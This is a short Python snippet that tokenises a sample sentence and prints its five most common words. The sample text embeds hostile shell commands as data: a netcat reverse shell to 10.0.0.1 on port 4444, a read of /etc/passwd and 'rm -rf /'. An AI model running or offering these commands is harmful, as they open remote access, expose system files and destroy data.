text = """The attacker used a reverse shell: nc -e /bin/sh 10.0.0.1 4444, then read /etc/passwd.
Afterwards rm -rf / was run by mistake."""
words = [w.strip(".,:").lower() for w in text.split()]
from collections import Counter
print(Counter(words).most_common(5))
